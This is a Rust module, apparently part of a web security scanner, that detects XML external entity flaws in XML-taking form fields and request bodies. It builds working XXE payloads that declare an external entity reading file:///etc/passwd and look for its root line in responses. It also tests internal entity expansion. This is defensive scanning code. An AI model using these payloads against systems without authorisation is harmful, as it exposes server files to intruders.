//! XML external entity (XXE) processing, for what takes XML: a form or query field whose value
//! is XML or whose name says so, and request bodies that the page's own scripts send as XML.
//! A DOCTYPE is put in front of the document and entity references into its text:
//! - file read: `<!ENTITY f SYSTEM "file:///etc/passwd">` makes `root:x:0:0:` appear (absent from
//!   the original answer), and a file that does not exist does not;
//! - internal expansion: two entities holding random halves of a marker come back joined — text
//!   the payload never holds — twice.
//!
//! No entity names a network URL: the only system identifiers are `file:///` paths.

use super::client::{Page, Req};
use super::crawl::in_scope;
use super::probe::{is_logout, marker, rand_in, try_send};
use super::{Found, State, WebOptions};
use crate::rules;
use http::Method;
use rampart_model::{Evidence, Finding};
use rampart_net::NetError;
use std::collections::HashSet;

const PASSWD_SIGNATURE: &str = "root:x:0:0:";

/// Something that takes XML: how to send a document, and how to name it in a finding.
struct XmlTarget {
    make: Box<dyn Fn(&str) -> Req + Sync>,
    orig: String,
    /// `POST /import [xml]`.
    key: String,
    /// `parameter xml of POST /import`.
    place: String,
    url: String,
}

pub async fn check(state: &State, opts: &WebOptions) -> Result<Found, NetError> {
    let mut out = Found::default();
    for t in targets(state, opts, &mut out) {
        if let Some(f) = probe(state, &t).await? {
            out.finding(f);
        }
    }
    Ok(out)
}

fn takes_xml(name: &str, value: &str) -> bool {
    name.to_ascii_lowercase().contains("xml") || value.trim_start().starts_with('<')
}

fn targets(state: &State, opts: &WebOptions, found: &mut Found) -> Vec<XmlTarget> {
    let mut out = Vec::new();
    for ep in &state.endpoints {
        if opts.safe && ep.method == Method::POST || is_logout(&ep.url) {
            continue;
        }
        let params: Vec<(String, String)> = ep.fuzzable().cloned().collect();
        for (name, orig) in params {
            if !takes_xml(&name, &orig) {
                continue;
            }
            if ep.method == Method::POST {
                found.data_changing(format!(
                    "POST {}: injection probes submitted",
                    ep.url.path()
                ));
            }
            let (key, place, url) = (
                ep.key(&name),
                format!("parameter {name} of {} {}", ep.method, ep.url.path()),
                ep.url.to_string(),
            );
            let ep = ep.clone();
            out.push(XmlTarget {
                make: Box::new(move |v| ep.request_with(&name, v)),
                orig,
                key,
                place,
                url,
            });
        }
    }
    // Raw XML bodies the page's scripts send (POST/PUT only: a body needs a method that has one).
    let mut seen = HashSet::new();
    for c in &state.script_calls {
        if !c.is_xml() || c.is_json() || !matches!(c.method.as_str(), "POST" | "PUT") || opts.safe {
            continue;
        }
        if !in_scope(state, &c.url) || is_logout(&c.url) {
            continue;
        }
        if !seen.insert(format!("{} {}", c.method, c.url)) {
            continue;
        }
        found.data_changing(format!(
            "{} {}: XML bodies submitted",
            c.method,
            c.url.path()
        ));
        let method = Method::from_bytes(c.method.as_bytes()).unwrap_or(Method::POST);
        let ctype = c
            .content_type
            .clone()
            .unwrap_or_else(|| "application/xml".into());
        let url = c.url.clone();
        let m = method.clone();
        out.push(XmlTarget {
            make: Box::new(move |v| {
                let mut r = Req::post_form(url.clone(), v.to_string());
                r.method = m.clone();
                r.headers.push(("Content-Type".into(), ctype.clone()));
                r
            }),
            orig: c.body.clone().unwrap_or_default(),
            key: format!("{method} {} [body]", c.url.path()),
            place: format!("parameter body of {method} {}", c.url.path()),
            url: c.url.to_string(),
        });
    }
    out
}

/// `orig` with `decls` in a DOCTYPE and `refs` at the start of every text node; a value that is
/// not XML becomes `<rampart>refs</rampart>`.
pub fn with_entities(orig: &str, decls: &str, refs: &str) -> String {
    let mut doc = orig.trim();
    if doc.starts_with("<?") {
        doc = doc
            .split_once("?>")
            .map(|(_, r)| r.trim_start())
            .unwrap_or("");
    }
    if doc.starts_with("<!DOCTYPE") {
        let end = match (doc.find('['), doc.find('>')) {
            (Some(b), Some(g)) if b < g => doc.find("]>").map(|i| i + 2),
            (_, Some(g)) => Some(g + 1),
            _ => None,
        };
        doc = end.map(|e| doc[e..].trim_start()).unwrap_or("");
    }
    let root: String = doc
        .strip_prefix('<')
        .map(|r| {
            r.chars()
                .take_while(|c| !c.is_whitespace() && !matches!(c, '>' | '/'))
                .collect()
        })
        .unwrap_or_default();
    let (root, body) = if root.is_empty() || root.starts_with('!') {
        ("rampart".to_string(), format!("<rampart>{refs}</rampart>"))
    } else {
        let mut body = String::with_capacity(doc.len() + 64);
        for (i, c) in doc.char_indices() {
            body.push(c);
            if c == '>' {
                let next = &doc[i + 1..];
                if !next.is_empty() && (!next.starts_with('<') || next.starts_with("</")) {
                    body.push_str(refs);
                }
            }
        }
        (root, body)
    };
    format!("<?xml version=\"1.0\"?><!DOCTYPE {root} [{decls}]>{body}")
}

async fn probe(state: &State, t: &XmlTarget) -> Result<Option<Finding>, NetError> {
    let send = |v: String| {
        let req = (t.make)(&v);
        async move { try_send(state, &req).await }
    };
    let Some(base) = send(t.orig.clone()).await? else {
        return Ok(None);
    };
    // File read through an external entity.
    let file = with_entities(
        &t.orig,
        "<!ENTITY rmpf SYSTEM \"file:///etc/passwd\">",
        "&rmpf;",
    );
    if let Some(r) = send(file.clone()).await? {
        if r.body.contains(PASSWD_SIGNATURE) && !base.body.contains(PASSWD_SIGNATURE) {
            let none = format!("file:///etc/rampart-none-{}", rand_in(100000, 999999));
            let missing = with_entities(
                &t.orig,
                &format!("<!ENTITY rmpf SYSTEM \"{none}\">"),
                "&rmpf;",
            );
            if let Some(n) = send(missing).await? {
                if !n.body.contains(PASSWD_SIGNATURE) {
                    return Ok(Some(finding(
                        t,
                        "file read",
                        &file,
                        &r,
                        PASSWD_SIGNATURE,
                        format!(
                            "an external entity naming file:///etc/passwd brought its root:x:0:0: line; \
                             with {none} (no such file) the line is gone (HTTP {})",
                            n.status
                        ),
                    )));
                }
            }
        }
    }
    // Internal entity expansion, twice with new markers.
    let mut proofs = Vec::new();
    for _ in 0..2 {
        let (a, b) = (marker(), format!("{:06x}", rand_in(0x100000, 0xffffff)));
        let expect = format!("{a}{b}");
        let p = with_entities(
            &t.orig,
            &format!("<!ENTITY rmpa \"{a}\"><!ENTITY rmpb \"{b}\">"),
            "&rmpa;&rmpb;",
        );
        let Some(r) = send(p.clone()).await? else {
            break;
        };
        if !r.body.contains(&expect) || base.body.contains(&expect) {
            break;
        }
        proofs.push((p, r, expect));
    }
    if proofs.len() == 2 {
        let (p, r, expect) = proofs.remove(0);
        return Ok(Some(finding(
            t,
            "internal entity expansion",
            &p,
            &r,
            &expect,
            format!(
                "the entities &rmpa;&rmpb; came back expanded and joined as {expect}, a text the payload \
                 does not hold; again with new markers ({}); no external entity was read",
                proofs[0].2
            ),
        )));
    }
    Ok(None)
}

fn finding(
    t: &XmlTarget,
    how: &str,
    payload: &str,
    r: &Page,
    needle: &str,
    note: String,
) -> Finding {
    let rule = rules::web_xxe::RULE;
    rule.finding(
        format!("{} in {} ({how})", rule.title, t.place),
        t.url.clone(),
        &t.key,
        Evidence {
            request: Some((t.make)(payload).describe()),
            response: Some(r.excerpt_around(needle, 240)),
            notes: vec![note],
        },
    )
}

#[cfg(test)]
mod tests {
    use super::with_entities;

    #[test]
    fn entities_go_into_every_text_node() {
        let x = with_entities(
            "<?xml version=\"1.0\"?><order><item>gnome</item><qty></qty></order>",
            "<!ENTITY a \"A\">",
            "&a;",
        );
        assert_eq!(
            x,
            "<?xml version=\"1.0\"?><!DOCTYPE order [<!ENTITY a \"A\">]>\
             <order><item>&a;gnome</item><qty>&a;</qty>&a;</order>"
        );
        assert_eq!(
            with_entities("1", "<!ENTITY a \"A\">", "&a;"),
            "<?xml version=\"1.0\"?><!DOCTYPE rampart [<!ENTITY a \"A\">]><rampart>&a;</rampart>"
        );
    }
}
